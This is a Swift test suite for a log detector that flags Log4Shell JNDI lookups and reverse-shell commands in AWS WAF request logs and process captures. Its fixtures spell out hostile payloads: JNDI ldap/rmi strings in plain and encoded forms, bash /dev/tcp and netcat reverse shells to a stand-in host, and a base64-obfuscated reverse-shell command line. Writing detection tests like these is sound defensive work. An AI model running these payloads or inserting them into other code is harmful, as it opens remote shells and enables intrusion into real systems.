import Bytes
import Evidence
import Testing

@testable import Detectors

private func request(_ attributes: [Attribute]) -> Event {
  Event(
    time: Timestamp(milliseconds: 1_795_584_153_588), dataType: "aws:waf:request", message: "",
    entities: [Entity(.address, "203.0.113.66")],
    attributes: [
      Attribute("client_ip", "203.0.113.66"), Attribute("http_method", "GET"), Attribute("uri", "/login.do"),
      Attribute("action", "ALLOW"),
    ] + attributes,
    locator: Locator(offset: 10, length: 20, line: 3))
}

@Suite struct TextInEventsTests {
  @Test func oneFindingForEachRuleWithAllPayloads() throws {
    let event = request([
      Attribute("user_agent", "${jndi:ldap://203.0.113.66:1389/ua}"),
      Attribute(
        "headers",
        .texts(["User-Agent: ${jndi:ldap://203.0.113.66:1389/ua}", "X-Api-Version: ${jndi:rmi://c.example/api}"])),
      Attribute("labels", .texts(["awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"])),
    ])
    let found = findings(TextInEvents(artifact: artifact), [event])
    #expect(found.map(\.rule) == ["log4shell.jndi-lookup"])
    let finding = try #require(found.first)
    #expect(finding.severity == .medium)
    #expect(finding.firstSeen == event.time)
    #expect(finding.evidence == [EvidenceReference(artifact: artifact, locator: event.locator)])
    #expect(finding.entities.contains(Entity(.url, "ldap://203.0.113.66:1389/ua")))
    #expect(finding.entities.contains(Entity(.domain, "c.example")))
    #expect(finding.attributes.contains(Attribute("waf_label", "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header")))
    #expect(finding.message.contains("GET /login.do from 203.0.113.66"))
  }

  /// The body is never logged; the label says what was in it.
  @Test func aLabelAloneIsEvidence() {
    let event = request([
      Attribute("labels", .texts(["awswaf:managed:aws:known-bad-inputs:Log4JRCE_Body"])), Attribute("body_size", 214),
    ])
    let found = findings(TextInEvents(artifact: artifact), [event])
    #expect(found.map(\.rule) == ["log4shell.waf-label"])
    #expect(found.first?.message.contains("body (214 bytes)") == true)
  }

  @Test func ordinaryRequestsAreQuiet() {
    let event = request([
      Attribute("query", "q=%24%7Bprice%7D+discount"),
      Attribute("labels", .texts(["awswaf:managed:aws:bot-control:bot:verified"])),
      Attribute("body_size", 100),
    ])
    #expect(findings(TextInEvents(artifact: artifact), [event]).isEmpty)
  }

  /// One search over all texts decides whether they are looked at one by one: it must not keep anything back.
  @Test(arguments: [
    "${jndi:ldap://203.0.113.66/a}", "%24%7Bjndi:ldap://203.0.113.66/a%7D", "\\u0024\\u007bjndi:dns://203.0.113.66/a}",
    "JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuNjYvYX0=", "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
    "nc 203.0.113.66 4444 -e /bin/sh", "sync; nc.traditional -e /bin/sh 203.0.113.66 4444",
    "BASH%20-I+%3E%26+%2Fdev%2Ftcp%2F203.0.113.66%2F4444", "echo L2Rldi90Y3Av | base64 -d", "plain text", "rsync ",
  ])
  func theFirstLookKeepsNothingBack(_ text: String) {
    let event = request([Attribute("user_agent", "a"), Attribute("headers", .texts(["b", text])), Attribute("n", 1)])
    let alone = text.withView { TextDetectors.scan($0, .logField) }
    let found = findings(TextInEvents(artifact: artifact), [event])
    #expect(Set(found.map(\.rule)) == Set(alone.map(\.rule)))
  }

  @Test func aCommandLineIsACommand() {
    let event = Event(
      time: nil, dataType: "linux:capture:process", message: "",
      attributes: [
        Attribute("pid", 460),
        Attribute(
          "command_line",
          "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNjYvNDQ0NCAwPiYx}|{base64,-d}|{bash,-i}"),
      ],
      locator: .whole)
    let found = findings(TextInEvents(artifact: artifact), [event]).filter { $0.rule == "reverse-shell.command-line" }
    #expect(found.first?.severity == .high)
    #expect(
      found.first?.attributes.contains(Attribute("inner_command", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")) == true
    )
    #expect(found.first?.attributes.contains(Attribute("remote_port", 4444)) == true)
    #expect(found.first?.entities.contains(Entity(.process, "460")) == true)
  }
}
